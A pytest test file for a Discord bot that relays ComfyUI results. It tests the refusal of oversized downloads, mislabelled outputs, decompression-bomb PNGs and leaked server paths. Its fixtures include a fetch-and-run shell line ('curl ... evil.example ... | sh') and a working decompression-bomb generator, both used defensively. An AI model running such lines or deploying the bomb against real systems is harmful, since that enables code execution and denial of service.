"""What a ComfyUI server sends is untrusted: hostile answers from the emulator, through the engine, the job service
and the whole bot.

- Downloads (``/view``) are streamed and capped (``comfyui.max_download_mb``): a 300 MiB body neither fills our
  memory nor leaves a file; the job fails as "too large to deliver" (``Failure.TOO_LARGE``).
- Output names and kinds come from the bytes: a script named ``.png`` is never delivered, a picture named ``.sh``
  is stored and sent as the ``.png`` it is; if nothing deliverable is left the job fails (``Failure.BAD_OUTPUT``).
- Decompression bombs are refused with a clear message: results and attachments.
- ComfyUI's error text reaches users without the server's file paths.

The emulator switches used: ``huge_view``, ``hostile_output``, ``fail_node(message=...)`` (``tests/peers/comfyui``).
"""

from __future__ import annotations

import asyncio
import io
import logging
import re
import shutil
import struct
import zlib
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import aiohttp
import av
import pytest
from PIL import Image

from discomfy.bot.render_job import failure_words
from discomfy.comfy.engine import Engine, EngineOptions
from discomfy.comfy.http import ComfyHTTP
from discomfy.comfy.pool import ServerPool
from discomfy.comfy.progress import Snapshot
from discomfy.comfy.rejection import describe_rejection, scrub_paths
from discomfy.comfy.types import MediaKind, OutputFile, parse_history
from discomfy.config import LimitSettings, PermissionSettings, Settings
from discomfy.errors import BadInputError, DiscomfyError
from discomfy.jobs.admission import Actor, Limits
from discomfy.jobs.outputs import OutputStore
from discomfy.jobs.records import OutputKind, StoredOutput
from discomfy.jobs.runner import ServiceOptions
from discomfy.jobs.service import JobRequest, JobService
from discomfy.jobs.state import ChannelId, Job, JobAction, JobState, UserId
from discomfy.jobs.store import JobStore
from discomfy.media import fit_for_discord
from discomfy.media.picture import read_picture
from discomfy.outcome import Failure
from discomfy.retry import Backoff
from discomfy.workflows import Kind, Registry
from tests.e2e.studio import WORKFLOWS, Studio, studio_settings
from tests.peers.comfyui import ComfyEmulator
from tests.peers.discord import DiscordEmulator, NextcordRunner
from tests.peers.discord.messages import StoredMessage
from tests.support import E2E_DISCORD_TIME_SCALE, FAST_STREAM

pytestmark = pytest.mark.timeout(60)

MIB = 1024 * 1024
FAST = ServiceOptions(
    poll_interval=0.05,
    previews=False,
    deliver_backoff=Backoff(base=0.02, cap=0.02, jitter=False),
    deliver_give_up_after=10.0,
    cancel_wait=5.0,
)
S = JobState


# -- hostile bytes --------------------------------------------------------------------------------------------


def png(width: int = 32, height: int = 24, color: tuple[int, int, int] = (10, 120, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def mp4(frames: int = 6) -> bytes:
    out = io.BytesIO()
    with av.open(out, mode="w", format="mp4") as container:
        stream = container.add_stream("libx264", rate=6)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        for i in range(frames):
            frame = av.VideoFrame.from_image(Image.new("RGB", (64, 48), (i * 30, 0, 0)))
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bomb_png(side: int) -> bytes:
    """A real decompression bomb: a ``side`` × ``side`` 1-bit grey PNG of zeros, a few hundred KiB on disk."""
    row = b"\x00" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
NOT_MEDIA = {
    "a shell script": SHELL_SCRIPT,
    "an HTML error page": b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
    "an ELF executable": b"\x7fELF\x02\x01\x01\x00" + bytes(120),
    "a zip archive": b"PK\x03\x04" + bytes(60),
    "a PNG signature then a script": b"\x89PNG\r\n\x1a\n" + SHELL_SCRIPT,
}


def rss_kib(field_name: str = "VmRSS") -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field_name + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field_name} in /proc/self/status")


def reset_peak_rss() -> bool:
    """Reset VmHWM to the current RSS (Linux ``clear_refs`` 5); False where it is not allowed."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return False
    return True


def files_under(directory: Path) -> list[Path]:
    return [p for p in directory.rglob("*") if p.is_file()] if directory.exists() else []


# -- the job service against the emulator ---------------------------------------------------------------------


@dataclass
class Recorder:
    store: JobStore
    deliveries: list[tuple[str, list[StoredOutput]]] = field(default_factory=list)
    endings: list[Job] = field(default_factory=list)

    def show(self, job: Job, snapshot: Snapshot, our_queue_position: int | None) -> None:
        pass

    async def deliver(self, job: Job, outputs: Sequence[StoredOutput]) -> None:
        self.deliveries.append((job.id, list(outputs)))

    async def ended(self, job: Job, snapshot: Snapshot | None) -> None:
        self.endings.append(job)


@dataclass
class Rig:
    service: JobService
    store: JobStore
    observer: Recorder
    outputs: OutputStore
    http: ComfyHTTP

    async def run(self, **params: Any) -> Job:
        """One txt2img job of user 1, to its end."""
        values = {"prompt": "a lighthouse", "width": 256, "height": 256, "steps": 2, **params}
        request = JobRequest(1, 1, 500, None, None, Kind.IMAGE, JobAction.GENERATE, values)
        job = await self.service.submit(request, Actor(UserId(1), ChannelId(500)))
        async with asyncio.timeout(30):
            while True:
                job = await self.store.get(job.id)
                if job.state in (S.DELIVERED, S.FAILED, S.LOST):
                    return job
                await asyncio.sleep(0.02)


@pytest.fixture
async def rig(
    comfyui_emulator: ComfyEmulator, registry: Registry, session: aiohttp.ClientSession, tmp_path: Path
) -> AsyncIterator[Rig]:
    store = await JobStore.open(tmp_path / "jobs.sqlite3")
    pool = ServerPool([comfyui_emulator.url], session, capacity=2, health_interval=0.2, timeout=10.0)
    await pool.start()
    engine = Engine(pool, EngineOptions(stream=FAST_STREAM))
    limits = LimitSettings(max_jobs_per_user=3, max_jobs_total=50)
    observer = Recorder(store)
    outputs = OutputStore(tmp_path / "data", store)
    service = JobService(
        store=store,
        engine=engine,
        registry=registry,
        outputs=outputs,
        observer=observer,
        limits=Limits(limits, PermissionSettings()),
        settings=Settings(limits=limits),
        options=FAST,
    )
    await service.start()
    yield Rig(service, store, observer, outputs, pool.http(comfyui_emulator.url))
    await service.close()
    await pool.close()
    await store.close()


# -- downloads are streamed and capped ------------------------------------------------------------------------


async def run_against_a_300_mib_view(rig: Rig, emu: ComfyEmulator, *, declare_length: bool) -> tuple[Job, float]:
    """One job whose only result is a 300 MiB ``/view`` body, with a 64 MiB cap; the job and the RSS growth."""
    rig.http.max_download = 64 * MIB  # comfyui.max_download_mb = 64
    emu.faults.huge_view(300 * MIB, declare_length=declare_length)
    before = rss_kib()
    peak_known = reset_peak_rss()
    job = await rig.run()
    peak = rss_kib("VmHWM" if peak_known else "VmRSS")
    return job, (peak - before) / 1024


@pytest.mark.parametrize("declare_length", [False, True], ids=["chunked", "with-content-length"])
async def test_a_300_mib_view_is_cut_at_the_cap_keeps_memory_bounded_and_leaves_no_file(
    rig: Rig, comfyui_emulator: ComfyEmulator, declare_length: bool
) -> None:
    job, growth_mib = await run_against_a_300_mib_view(rig, comfyui_emulator, declare_length=declare_length)

    assert job.state is S.FAILED, job
    # Read whole, the body took 565 MiB more (issue 11: 207 → 772 MiB); capped, at most the cap and a piece.
    assert growth_mib < 160, f"RSS grew by {growth_mib:.0f} MiB"
    assert files_under(rig.outputs.root / "outputs") == []
    assert rig.observer.deliveries == []
    # Refused once, not fetched again and again until the fetch deadline.
    assert [f for f in comfyui_emulator.faults.fired if f.startswith("huge_view")] == [f"huge_view {300 * MIB}"]


async def test_a_300_mib_view_fails_the_job_as_too_large_to_deliver(rig: Rig, comfyui_emulator: ComfyEmulator) -> None:
    job, _ = await run_against_a_300_mib_view(rig, comfyui_emulator, declare_length=True)

    assert (job.state, job.failure) == (S.FAILED, Failure.TOO_LARGE), job.error
    what, _ = failure_words(job.failure, job.error)
    assert "too large to deliver" in what


async def test_a_file_at_the_cap_is_fetched_and_one_byte_more_is_refused_without_a_retry(
    rig: Rig, comfyui_emulator: ComfyEmulator
) -> None:
    picture = png()
    (comfyui_emulator.output_dir / "x.png").write_bytes(picture)
    file = OutputFile("9", "x.png", "", "output", MediaKind.IMAGE)
    rig.http.max_download = len(picture)
    assert await rig.http.view(file) == picture

    rig.http.max_download = len(picture) - 1
    seen = len([r for r in comfyui_emulator.requests if r.path.endswith("/view")])
    with pytest.raises(DiscomfyError) as refused:
        await rig.http.view(file)
    assert refused.value.failure is Failure.TOO_LARGE
    assert len([r for r in comfyui_emulator.requests if r.path.endswith("/view")]) == seen + 1  # not retried


# -- names and kinds come from the bytes ----------------------------------------------------------------------


@pytest.mark.parametrize("data", NOT_MEDIA.values(), ids=NOT_MEDIA.keys())
async def test_an_output_that_is_no_picture_is_never_delivered_whatever_its_name(
    rig: Rig, comfyui_emulator: ComfyEmulator, data: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    comfyui_emulator.faults.hostile_output(data=data)  # named ComfyUI_00001_.png, as a SaveImage would
    with caplog.at_level(logging.WARNING, "discomfy.jobs"):
        job = await rig.run()

    assert (job.state, job.failure) == (S.FAILED, Failure.BAD_OUTPUT), job.error
    assert rig.observer.deliveries == [] and await rig.store.outputs(job.id) == []
    assert files_under(rig.outputs.root / "outputs") == []
    assert any("refused" in r.getMessage() and ".png" in r.getMessage() for r in caplog.records)
    what, _ = failure_words(job.failure, job.error)
    assert "not pictures or videos" in what


async def test_a_picture_named_sh_is_stored_and_delivered_as_the_png_it_is(
    rig: Rig, comfyui_emulator: ComfyEmulator
) -> None:
    comfyui_emulator.faults.hostile_output(ext="sh")
    job = await rig.run()

    assert job.state is S.DELIVERED, job.error
    [(_, [stored])] = rig.observer.deliveries
    assert (stored.kind, stored.mime) == (OutputKind.IMAGE, "image/png")
    assert stored.path.endswith(f"{job.id}_0.png")
    path = rig.outputs.path(stored)
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert path.stat().st_mode & 0o777 == 0o600  # the bot's own file


async def test_a_video_named_png_is_stored_and_delivered_as_a_video(rig: Rig, comfyui_emulator: ComfyEmulator) -> None:
    comfyui_emulator.faults.hostile_output(data=mp4())
    job = await rig.run()

    assert job.state is S.DELIVERED, job.error
    [(_, [stored])] = rig.observer.deliveries
    assert (stored.kind, stored.mime, stored.width, stored.height) == (OutputKind.VIDEO, "video/mp4", 64, 48)
    assert stored.path.endswith(".mp4")


async def test_of_two_outputs_only_the_real_picture_is_delivered(rig: Rig, comfyui_emulator: ComfyEmulator) -> None:
    comfyui_emulator.faults.hostile_output(data=SHELL_SCRIPT, count=1)  # the first of the batch
    job = await rig.run(batch=2)

    assert job.state is S.DELIVERED, job.error
    [(_, delivered)] = rig.observer.deliveries
    assert [(o.index, o.mime) for o in delivered] == [(0, "image/png")]
    [kept] = files_under(rig.outputs.root / "outputs")
    assert kept.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# -- decompression bombs --------------------------------------------------------------------------------------


@pytest.mark.parametrize("side", [10_000, 30_000], ids=["past-pillows-warning", "past-pillows-error"])
async def test_a_decompression_bomb_result_is_refused_as_too_large_and_not_kept(
    rig: Rig, comfyui_emulator: ComfyEmulator, side: int
) -> None:
    bomb = bomb_png(side)
    assert len(bomb) < 2 * MIB  # small on the wire, gigabytes once decoded
    comfyui_emulator.faults.hostile_output(data=bomb)
    job = await rig.run()

    assert (job.state, job.failure) == (S.FAILED, Failure.TOO_LARGE), job.error
    assert files_under(rig.outputs.root / "outputs") == []


@pytest.mark.parametrize("side", [5_000, 10_000, 30_000])
@pytest.mark.parametrize("warnings_are", ["errors", "ignored"])
def test_a_decompression_bomb_attachment_is_refused_with_a_clear_message(side: int, warnings_are: str) -> None:
    import warnings

    with warnings.catch_warnings():
        if warnings_are == "ignored":  # as in production: Pillow only warns between its two limits
            warnings.simplefilter("ignore")
        with pytest.raises(BadInputError) as refused:
            read_picture(bomb_png(side))
    text = refused.value.user_message
    assert "decompression bomb" in text and "4096×4096" in text, text


async def test_a_decompression_bomb_is_never_decoded_when_fitting_for_discord() -> None:
    bomb = bomb_png(30_000)
    result = await fit_for_discord([("bomb.png", bomb)], per_file_limit=len(bomb) // 2)
    assert result.uploads == () and result.too_big == ("bomb.png",)


# -- error text without server paths --------------------------------------------------------------------------

PATHS = {
    "posix": ("[Errno 2] No such file or directory: '/opt/comfy_data/input/broken.png'", "broken.png", "/opt"),
    "windows": (r"Error while loading C:\ComfyUI\models\checkpoints\x.safetensors", "x.safetensors", "ComfyUI"),
    "windows-repr": ("failed: 'C:\\\\ComfyUI\\\\models\\\\x.safetensors'", "x.safetensors", "models"),
    "unc": (r"cannot open \\nas\share\comfy\input\cat.png", "cat.png", "nas"),
    "home": ("File ~/ComfyUI/custom_nodes/evil/nodes.py, line 3", "nodes.py", "custom_nodes"),
    "traceback": ('File "/usr/lib/python3.12/site-packages/torch/nn.py", line 5', "nn.py", "site-packages"),
}


@pytest.mark.parametrize(("reason", "name", "secret"), PATHS.values(), ids=PATHS.keys())
async def test_a_node_error_reaches_the_user_without_the_servers_paths(
    rig: Rig, comfyui_emulator: ComfyEmulator, reason: str, name: str, secret: str
) -> None:
    comfyui_emulator.faults.fail_node(class_type="KSampler", message=reason, exception_type="FileNotFoundError")
    job = await rig.run()

    assert (job.state, job.failure) == (S.FAILED, Failure.WORKFLOW)
    assert job.error is not None and name in job.error and secret not in job.error, job.error
    what, _ = failure_words(job.failure, job.error)
    assert name in what and secret not in what


def test_a_failure_read_from_history_has_no_server_paths() -> None:
    message = {"node_type": "LoadImage", "exception_message": "cannot open '/srv/comfy/input/a/b/cat.png'"}
    entry = {"status": {"status_str": "error", "messages": [["execution_error", message]]}, "outputs": {}}
    job = parse_history("p1", {"p1": entry})
    assert job.error == "LoadImage: cannot open 'cat.png'"


def test_a_rejection_names_the_file_not_where_the_server_keeps_it() -> None:
    body = {
        "error": {
            "type": "prompt_outputs_failed_validation",
            "message": "Prompt outputs failed validation",
            "details": r"Value not in list: ckpt_name: 'D:\models\sd\v1-5.safetensors' not in ['/opt/m/a.ckpt']",
        },
        "node_errors": {},
    }
    text = describe_rejection(body)
    assert "v1-5.safetensors" in text and "a.ckpt" in text
    assert "D:" not in text and "/opt" not in text and "models" not in text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see http://127.0.0.1:8188/view?f=1", "see http://127.0.0.1:8188/view?f=1"),  # a URL is no file path
        ("16:9 at 12:30, and/or 1/2", "16:9 at 12:30, and/or 1/2"),
        ("(/opt/a/b.png)", "(b.png)"),
        ("C:/ComfyUI/output/x.png", "x.png"),
        (r"C:\Program Files\ComfyUI\x.ckpt is missing", "x.ckpt is missing"),
    ],
)
def test_scrub_paths_keeps_what_is_not_a_path(text: str, shown: str) -> None:
    assert scrub_paths(text) == shown


# -- end to end: what the Discord user reads ------------------------------------------------------------------

TEST_WORKFLOWS = Path(__file__).resolve().parent.parent / "e2e" / "workflows"


@pytest.fixture
async def studio(
    discord_emulator: DiscordEmulator, comfy: ComfyEmulator, run_nextcord: NextcordRunner, tmp_path: Path
) -> AsyncIterator[Studio]:
    workflows = tmp_path / "workflows"
    shutil.copytree(WORKFLOWS, workflows)
    for file in TEST_WORKFLOWS.iterdir():
        shutil.copy(file, workflows / file.name)
    settings = replace(studio_settings(discord_emulator, comfy, tmp_path / "data"), workflows_dir=workflows)
    s = Studio(discord_emulator, comfy, run_nextcord, settings)
    yield s
    await s.stop()


def text_of(message: StoredMessage) -> str:
    parts = [message.content or ""]
    for embed in message.embeds:
        parts += [embed.get("title", ""), embed.get("description", "")]
        parts += [f"{f.get('name', '')} {f.get('value', '')}" for f in embed.get("fields", [])]
    return "\n".join(parts)


@pytest.mark.discord_time_scale(E2E_DISCORD_TIME_SCALE)
async def test_e2e_a_decompression_bomb_attachment_gets_a_clear_refusal_and_nothing_runs(studio: Studio) -> None:
    await studio.start()
    emu = studio.discord
    upload = emu.add_upload("cat.png", bomb_png(30_000), "image/png")
    interaction = await emu.send_slash_command(
        "carol", "general", "generate", {"prompt": "a cat", "workflow": "img2img", "image": upload}
    )
    await emu.wait_for_response(interaction)

    def told() -> list[str] | None:
        messages = [emu.original_message(interaction), *emu.followups(interaction)]
        found = [text_of(m) for m in messages if m is not None and m.ephemeral and not m.deleted]
        return found or None

    [text] = await studio.until(told, what="the refusal")
    assert "decompression bomb" in text and "30000×30000" in text
    assert "reference" not in text.lower()  # a refusal, not an internal error
    assert [r for r in studio.comfy.requests if r.method == "POST" and r.path.endswith("/prompt")] == []


@pytest.mark.discord_time_scale(E2E_DISCORD_TIME_SCALE)
async def test_e2e_a_script_result_is_not_posted_and_the_message_says_why(studio: Studio) -> None:
    studio.comfy.faults.hostile_output(ext="sh", data=SHELL_SCRIPT)
    await studio.start()
    emu = studio.discord
    interaction = await emu.send_slash_command(
        "carol", "general", "generate", {"prompt": "a cat", "steps": 4, "width": 256, "height": 256}
    )
    await emu.wait_for_response(interaction)

    def failed() -> StoredMessage | None:
        message = studio.message(interaction)
        return message if message is not None and "not pictures or videos" in text_of(message) else None

    message = await studio.until(failed, what="the failed result")
    assert message.attachments == []
    assert not any(a.filename.endswith(".sh") for m in emu.messages("general") for a in m.attachments)


@pytest.mark.discord_time_scale(E2E_DISCORD_TIME_SCALE)
async def test_e2e_a_node_error_is_shown_without_the_servers_path(studio: Studio) -> None:
    reason = r"[Errno 2] No such file or directory: 'C:\\ComfyUI\\models\\vae\\secretvae.pt'"
    studio.comfy.faults.fail_node(class_type="KSampler", message=reason, exception_type="FileNotFoundError")
    await studio.start()
    emu = studio.discord
    interaction = await emu.send_slash_command(
        "carol", "general", "generate", {"prompt": "a cat", "steps": 4, "width": 256, "height": 256}
    )
    await emu.wait_for_response(interaction)

    def failed() -> StoredMessage | None:
        message = studio.message(interaction)
        return message if message is not None and "secretvae.pt" in text_of(message) else None

    text = text_of(await studio.until(failed, what="the failed message"))
    assert not re.search(r"ComfyUI|models|C:", text.replace("ComfyUI server", "")), text


@pytest.mark.discord_time_scale(E2E_DISCORD_TIME_SCALE)
async def test_e2e_a_picture_the_server_named_sh_reaches_discord_as_a_png(studio: Studio) -> None:
    studio.comfy.faults.hostile_output(ext="sh")
    await studio.start()
    emu = studio.discord
    interaction = await emu.send_slash_command(
        "carol", "general", "generate", {"prompt": "a cat", "steps": 4, "width": 256, "height": 256}
    )
    await emu.wait_for_response(interaction)

    message = await studio.result(interaction)

    [attachment] = message.attachments
    assert attachment.filename.endswith(".png"), attachment.filename
    assert attachment.data[:8] == b"\x89PNG\r\n\x1a\n"
    assert [p.suffix for p in files_under(studio.comfy.output_dir)] == [".sh"]  # what the server called it
